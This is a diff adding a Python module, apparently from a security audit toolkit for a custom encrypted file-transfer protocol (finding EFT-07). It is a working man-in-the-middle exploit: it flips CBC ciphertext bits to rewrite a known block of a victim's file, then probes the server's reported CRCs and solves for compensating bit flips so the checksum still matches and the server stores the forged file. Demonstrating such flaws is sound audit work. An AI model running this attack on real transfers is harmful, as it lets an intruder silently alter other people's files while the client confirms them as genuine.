@@ -1,0 +1,153 @@
+"""No integrity: rewrite part of a file in transit and keep its CRC equal.
+
+A man in the middle knows one block of the victim's file (``--known`` at ``--offset``:
+a form, a header, a template) and wants it to read ``--replace``. CBC is malleable:
+XORing ``known ^ replace`` into the previous ciphertext block changes exactly those
+plaintext bytes (and turns the previous block into garbage we cannot predict). The
+CRC would then differ and the client would resend, so we fix it. CRC-32 is linear
+and the server tells us the CRC of whatever it decrypted (1603), so, holding the
+victim's attempt back:
+
+1. send the original attempt: 1603 gives the client's own CRC ``S``; 902;
+2. send the modified attempt: its CRC ``S'``; 902;
+3. for each of up to ``--positions`` blocks far from the change, flip one bit of the
+   ciphertext and send it with the change: the difference to ``S'`` is that flip's
+   fixed contribution to the CRC; 902 each time;
+4. pick (Gaussian elimination over GF(2)) the flips whose contributions XOR to
+   ``S ^ S'`` and send the change with those flips as the real attempt. The server's
+   CRC of it is ``S``: we forward that genuine 1603 to the client, which confirms
+   with 900, and the server stores the modified file.
+"""
+
+from __future__ import annotations
+
+import argparse
+
+from eft_protocol.codes import RequestCode, ResponseCode
+
+from .common import AttackError, Out, add_listen_argument, add_target_argument
+from .framing import Frame, name_request, resliced
+from .gf2 import members, solve
+from .proxy import Interceptor, MitmConnection, MitmProxy
+from .recording import Attempt
+
+FINDING = "EFT-07"
+SUMMARY = "CBC bit flipping with the CRC kept equal (CRC-32 is linear, not a MAC)"
+BLOCK = 16
+
+
+def add_arguments(parser: argparse.ArgumentParser) -> None:
+    add_target_argument(parser)
+    add_listen_argument(parser)
+    parser.add_argument("--offset", type=int, required=True, help="byte offset of --known")
+    parser.add_argument("--known", required=True, help="plaintext known to be at --offset")
+    parser.add_argument("--replace", required=True, help="what it should say (same length)")
+    parser.add_argument("--file", help="only this file (default: the first one)")
+    parser.add_argument("--positions", type=int, default=48, help="CRC-fixing flips (48)")
+
+
+class Forge(Interceptor):
+    def __init__(self, out: Out, args: argparse.Namespace) -> None:
+        self.out, self.args = out, args
+        self.known, self.replace = args.known.encode(), args.replace.encode()
+        start = args.offset % BLOCK
+        if len(self.known) != len(self.replace) or start + len(self.known) > BLOCK:
+            raise AttackError("--known and --replace must have one length and fit one block")
+        if args.offset < BLOCK:
+            raise AttackError("the first block cannot be changed: its 'previous block' is the IV")
+        self.outcome: dict[str, object] | None = None
+
+    async def client_frame(self, conn: MitmConnection, frame: Frame) -> None:
+        if not frame.is_packet or self.outcome is not None:
+            await conn.to_server(frame.raw)
+            return
+        packet, _ = frame.packet()
+        if self.args.file and packet.file_name != self.args.file:
+            await conn.to_server(frame.raw)
+            return
+        attempt = conn.scratch.get("attempt")
+        if attempt is None:
+            attempt = conn.scratch["attempt"] = Attempt(
+                packet.file_name, packet.orig_size, packet.content_size
+            )
+        attempt.packets.append(frame)
+        if attempt.complete:
+            conn.capture = True
+            try:
+                final_1603 = await self._forge(conn, attempt)
+            finally:
+                conn.capture = False
+            await conn.to_client(final_1603.raw)
+
+    async def _probe(self, conn: MitmConnection, attempt: Attempt, ciphertext: bytes) -> int:
+        assert attempt.packets[0].client_id is not None
+        await conn.send(*resliced(attempt.packets, bytes(ciphertext)))
+        answer = await conn.receive()
+        if answer.code != ResponseCode.FILE_RECEIVED:
+            raise AttackError(f"the server refused a probe ({answer.code})")
+        give_up = name_request(
+            attempt.packets[0].client_id, RequestCode.CRC_GIVE_UP, attempt.file_name
+        )
+        await conn.send(give_up)
+        await conn.receive()
+        return answer.file_received().cksum
+
+    async def _forge(self, conn: MitmConnection, attempt: Attempt) -> Frame:
+        original = attempt.ciphertext
+        blocks = len(original) // BLOCK
+        crc = await self._probe(conn, attempt, original)
+        changed = bytearray(original)
+        at = self.args.offset - BLOCK  # the same bytes, one block earlier
+        for i, (a, b) in enumerate(zip(self.known, self.replace, strict=True)):
+            changed[at + i] ^= a ^ b
+        changed_crc = await self._probe(conn, attempt, bytes(changed))
+        self.out.step("probed the original and the change", cksum=crc, changed_cksum=changed_crc)
+        touched = self.args.offset // BLOCK - 1  # the ciphertext block we changed
+        # Flip ciphertext block j: garbles plaintext j, flips a bit of j + 1. Keep those
+        # pairs apart from each other, from the change, and from the padding block.
+        spots = [j for j in range(0, blocks - 2, 2) if abs(j - touched) >= 2]
+        spots = spots[: self.args.positions]
+        effects = []
+        for j in spots:
+            flipped = bytearray(changed)
+            flipped[j * BLOCK] ^= 0x01
+            effects.append(await self._probe(conn, attempt, bytes(flipped)) ^ changed_crc)
+        subset, _ = solve(effects, crc ^ changed_crc)
+        if subset is None:
+            raise AttackError(f"{len(spots)} flips cannot reach the CRC: the file is too short")
+        chosen = [spots[i] for i in members(subset)]
+        for j in chosen:
+            changed[j * BLOCK] ^= 0x01
+        await conn.send(*resliced(attempt.packets, bytes(changed)))
+        final = await conn.receive()
+        final_crc = (
+            final.file_received().cksum if final.code == ResponseCode.FILE_RECEIVED else None
+        )
+        self.outcome = {
+            "file_name": attempt.file_name,
+            "probes": len(spots) + 2,
+            "flips": len(chosen),
+            "cksum": crc,
+            "final_cksum": final_crc,
+        }
+        self.out.step(f"sent the forgery with {len(chosen)} compensating flips", **self.outcome)
+        return final
+
+    async def client_closed(self, conn: MitmConnection) -> None:
+        conn.close_server()
+        self.proxy.finish(self.outcome is not None)
+
+
+async def run(args: argparse.Namespace, out: Out) -> bool:
+    forge = Forge(out, args)
+    await MitmProxy(args.target, forge, out).run(args.listen, args.timeout)
+    outcome = forge.outcome or {}
+    equal = outcome.get("final_cksum") is not None and outcome["final_cksum"] == outcome["cksum"]
+    if equal:
+        return out.result(
+            True,
+            f"the server's CRC of the modified {outcome['file_name']!r} equals the client's: "
+            "the client confirmed it",
+            **outcome,
+        )
+    return out.result(False, "the forgery did not keep the CRC", **outcome)
